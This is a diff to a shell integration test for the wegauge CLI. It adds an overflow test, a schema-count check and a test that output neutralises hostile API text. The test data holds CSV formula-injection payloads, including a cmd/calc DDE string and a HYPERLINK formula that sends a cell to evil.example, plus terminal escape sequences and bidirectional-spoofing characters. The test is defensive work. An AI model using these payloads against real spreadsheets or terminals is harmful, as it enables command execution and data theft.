@@ -1,13 +1,15 @@
 # tests/it_cli.sh: the wegauge tool end to end, against a populated store.
 #
-# The store is built from schema/001-initial.sql and
-# tests/fixtures/cli/populate.sql, whose days are relative to today (UTC).
+# The store is built from schema/*.sql and tests/fixtures/cli/populate.sql,
+# whose days are relative to today (UTC).
 # Expected outputs live in tests/fixtures/cli/expected/CASE.{table,csv,json}
 # with the day N days ago written @D-N@ (tomorrow @D+1@); they are made
 # concrete here with date(1). Checked: exact output of every command in
 # every format, CSV line endings (CRLF) and JSON validity, exit codes of
-# status, errors (missing database, not a database, not a wegauge store,
-# schema too new / too old, unknown workspace, usage errors), -c CONFIG,
+# status, text from the API that must not act on the reader (formulas,
+# control and bidirectional characters), errors (missing database, not a
+# database, not a wegauge store, schema too new / too old, unknown
+# workspace, usage errors), -c CONFIG,
 # that a held write lock does not block a read, that the store file is
 # never written, and the HTML report rendered by headless Chromium
 # (title, series and point counts, escaping of hostile store text).
@@ -26,6 +28,11 @@ set -eu
 : "${SOURCE_DIR:?}"
 : "${FIXTURES:?}"
 EXP="$FIXTURES/cli/expected"
+# The schema version this build knows: the number of schema files.
+SCHEMA=$(
+	set -- "$SOURCE_DIR"/schema/[0-9][0-9][0-9]-*.sql
+	echo $#
+)
 REGEN=${WEGAUGE_REGEN:-0}
 mkdir -p "$TEST_TMP"
 DIR=$(mktemp -d "$TEST_TMP/it_cli.XXXXXX")
@@ -79,10 +86,17 @@ templatize() {
 	sed $script
 }
 
+# build_store DB: every schema file in order, the fixture, and the schema
+# version wegauged's migration would leave.
 build_store() {
 	rm -f "$1" "$1-wal" "$1-shm"
-	sqlite3 -bail "$1" ".read $SOURCE_DIR/schema/001-initial.sql" \
-		".read $FIXTURES/cli/populate.sql" >/dev/null
+	db=$1
+	set -- "$SOURCE_DIR"/schema/[0-9][0-9][0-9]-*.sql
+	{
+		for f in "$@"; do echo ".read $f"; done
+		echo ".read $FIXTURES/cli/populate.sql"
+		echo "PRAGMA user_version = $#;"
+	} | sqlite3 -bail "$db" >/dev/null
 }
 
 # check CASE ARGS...: run wegauge ARGS (on $DB) in all three formats and
@@ -103,8 +117,9 @@ check() {
 		fi
 		got="$out"
 		if [ "$fmt" = csv ]; then
-			# Records end in CRLF; a bare LF occurs only inside a quoted field.
+			# Records end in CRLF; no field holds a line break (it is escaped).
 			crlf=$(grep -c "$(printf '\r')\$" "$out" || true)
+			[ "$crlf" = "$(wc -l <"$out")" ] || failure "$name (csv): a line break in a field"
 			last=$(tail -c 2 "$out" | od -An -tx1 | tr -d ' ')
 			[ "$last" = 0d0a ] || failure "$name (csv): does not end in CRLF"
 			tr -d '\r' <"$out" >"$out.lf"
@@ -171,6 +186,26 @@ test_outputs() {
 	check pulls_failed pulls --failed
 	check pulls_last2 pulls --last 2
 	check pulls_globex_failed_last1 pulls --workspace globex --failed --last 1
+	test_overflow
+}
+
+# Issue 12, finding 6: one workspace (umbrella, tests/fixtures/cli/overflow.sql)
+# whose totals leave the 64-bit range. Every format of the report and the
+# HTML page still work, exact for the others (acme-prod's 7-day report is
+# the same file as without umbrella), with a real where a total does not
+# fit an integer.
+test_overflow() {
+	cp "$DB" "$DIR/overflow.db"
+	sqlite3 -bail "$DIR/overflow.db" ".read $FIXTURES/cli/overflow.sql" >/dev/null
+	plain_db=$DB
+	DB="$DIR/overflow.db"
+	check report_overflow report
+	check report_7d_acme report --days 7 --workspace acme-prod
+	"$WEGAUGE" -d "$DB" report --html "$DIR/overflow.html" >/dev/null 2>"$DIR/overflow.err" ||
+		failure "report --html with an overflowing workspace: $(cat "$DIR/overflow.err")"
+	grep -q 'data-workspace="umbrella"' "$DIR/overflow.html" 2>/dev/null ||
+		failure "report --html with an overflowing workspace: no section for it"
+	DB=$plain_db
 }
 
 test_status_exit() {
@@ -208,11 +243,15 @@ test_errors() {
 		-d "$DIR/alien.db" seats
 	cp "$DB" "$DIR/new.db"
 	sqlite3 "$DIR/new.db" "PRAGMA user_version = 99"
-	expect_error 1 "schema version 99 is newer than this wegauge knows (1): upgrade wegauge" \
+	expect_error 1 "schema version 99 is newer than this wegauge knows ($SCHEMA): upgrade wegauge" \
 		-d "$DIR/new.db" report
 	cp "$DB" "$DIR/old.db"
 	sqlite3 "$DIR/old.db" "PRAGMA user_version = 0"
-	expect_error 1 "schema version 0 is older than this wegauge knows (1)" -d "$DIR/old.db" pulls
+	expect_error 1 "schema version 0 is older than this wegauge knows ($SCHEMA)" -d "$DIR/old.db" pulls
+	cp "$DB" "$DIR/v1.db"
+	sqlite3 "$DIR/v1.db" "PRAGMA user_version = 1"
+	expect_error 1 "schema version 1 is older than this wegauge knows ($SCHEMA): start wegauged" \
+		-d "$DIR/v1.db" report
 	mkdir -p "$DIR/adir"
 	expect_error 1 "not a regular file" -d "$DIR/adir" status
 	expect_error 1 "no workspace nope in the store" -d "$DB" pulls --workspace nope
@@ -235,7 +274,7 @@ test_errors() {
 	expect_error 2 "--database: expected a value" status --database
 	# help and version
 	"$WEGAUGE" -h | head -n 1 | grep -q '^usage: wegauge' || failure "-h: no usage line"
-	"$WEGAUGE" --version | grep -Eq '^wegauge [0-9]+\.[0-9]+\.[0-9]+ \(store schema 1\)$' ||
+	"$WEGAUGE" --version | grep -Eq "^wegauge [0-9]+\.[0-9]+\.[0-9]+ \(store schema $SCHEMA\)\$" ||
 		failure "--version: $("$WEGAUGE" --version)"
 }
 
@@ -441,6 +480,64 @@ test_html() {
 	[ "$n" = 6 ] || failure "$n delivery series with the hostile channel, expected 6"
 }
 
+# Issue 12, findings 5 and 7: text from the API that a spreadsheet would
+# run (=, +, -, @ first) or a terminal would obey (ESC, BEL, backspace) or
+# that hides or reverses what it says (U+202E, U+200B) cannot reach the
+# reader as such: CSV neutralises formulas and escapes control characters,
+# the table also shows invisible characters, and no output of any command
+# holds a control byte.
+test_hostile_text() {
+	cp "$DB" "$DIR/hostile.db"
+	sqlite3 -bail "$DIR/hostile.db" <<-'EOF'
+		INSERT INTO seat (workspace, email, name, role, status, last_login_at, first_seen_at,
+		  last_seen_at, removed_at, pull_id, updated_at) VALUES
+		 ('globex', '@SUM(1+1)*cmd|'' /C calc''!A0',
+		  '=HYPERLINK("http://evil.example/?"&A1,"Click")', '+ADMIN', 'ACTIVE', NULL,
+		  '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z', NULL, 2, '2026-01-01T00:00:00Z'),
+		 ('globex', 'mal@globex.example', 'Mal' || char(27) || '[2J' || char(8) || 'lory',
+		  'admin' || char(0x202e) || 'gnp.exe', '-1+1', NULL, '2026-01-01T00:00:00Z',
+		  '2026-01-01T00:00:00Z', NULL, 2, '2026-01-01T00:00:00Z');
+		INSERT INTO feature_usage_daily VALUES ('globex', date('now'),
+		  '=HYPERLINK("http://evil.example")', 'deliveries', -5, 2, '2026-01-01T00:00:00Z');
+		INSERT INTO pull (id, workspace, started_at, finished_at, status, requests, retries,
+		  rows, error) VALUES (9, 'globex', date('now') || 'T08:30:00Z',
+		  date('now') || 'T08:30:01Z', 'failed', 1, 0, 0,
+		  'stream stats: malformed JSON at byte 3: invalid token near ''' || char(27) ||
+		  ']0;pwned' || char(7) || '''' || char(0x200b));
+	EOF
+	H="$DIR/hostile"
+	for cmd in "status" "report" "seats --inactive 1d" "pulls"; do
+		for fmt in table csv json; do
+			out="$H.$(echo "$cmd" | tr -c 'a-z0-9\n' _).$fmt"
+			# shellcheck disable=SC2086
+			"$WEGAUGE" -d "$DIR/hostile.db" $cmd --format "$fmt" >"$out" 2>&1 || true
+			if LC_ALL=C grep -q "$(printf '[\001-\011\013\014\016-\037\177]')" "$out"; then
+				failure "hostile text: '$cmd --format $fmt' printed a control byte"
+			fi
+			if [ "$fmt" != csv ] && grep -q "$(printf '\342\200[\213\256]')" "$out"; then
+				failure "hostile text: '$cmd --format $fmt' printed U+202E or U+200B as is"
+			fi
+		done
+	done
+	want_line() { # FILE LINE: LINE is a line of FILE (CR stripped)
+		tr -d '\r' <"$1" | grep -qxF -- "$2" || failure "hostile text: $1 lacks the line: $2"
+	}
+	want_line "$H.seats___inactive_1d.csv" \
+		"inactive,globex,,,,,,,\"'@SUM(1+1)*cmd|' /C calc'!A0\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"'+ADMIN\",ACTIVE,,"
+	want_line "$H.seats___inactive_1d.csv" \
+		"inactive,globex,,,,,,,mal@globex.example,Mal\\x1b[2J\\x08lory,admin$(printf '\342\200\256')gnp.exe,\"'-1+1\",,"
+	want_line "$H.seats___inactive_1d.table" \
+		"globex     mal@globex.example           Mal\\x1b[2J\\x08lory                              admin<U+202E>gnp.exe  -1+1    -                             -"
+	want_line "$H.report.csv" \
+		"channels,globex,\"'=HYPERLINK(\"\"http://evil.example\"\")\",,-,,-,-5,new,,-,,-,,-,1,new,,,,,"
+	want_line "$H.pulls.csv" \
+		"9,globex,$(day_of 0)T08:30:00Z,$(day_of 0)T08:30:01Z,1,failed,1,0,0,\"stream stats: malformed JSON at byte 3: invalid token near '\\x1b]0;pwned\\x07'$(printf '\342\200\213')\""
+	want_line "$H.pulls.table" \
+		" 9  globex     $(day_of 0)T08:30:00Z  $(day_of 0)T08:30:01Z        1  failed            1        0     0  stream stats: malformed JSON at byte 3: invalid token near '\\x1b]0;pwned\\x07'<U+200B>"
+	want_line "$H.pulls.json" \
+		"  {\"id\":9,\"workspace\":\"globex\",\"started\":\"$(day_of 0)T08:30:00Z\",\"finished\":\"$(day_of 0)T08:30:01Z\",\"seconds\":1,\"status\":\"failed\",\"requests\":1,\"retries\":0,\"rows\":0,\"error\":\"stream stats: malformed JSON at byte 3: invalid token near '\\u001b]0;pwned\\u0007'\\u200b\"},"
+}
+
 run_all() {
 	FAILS=0
 	find "$DIR" -mindepth 1 -delete # a second run starts afresh
@@ -455,6 +552,7 @@ run_all() {
 	test_status_exit
 	test_errors
 	test_config
+	test_hostile_text
 	test_readonly
 	test_group_reader
 	test_html
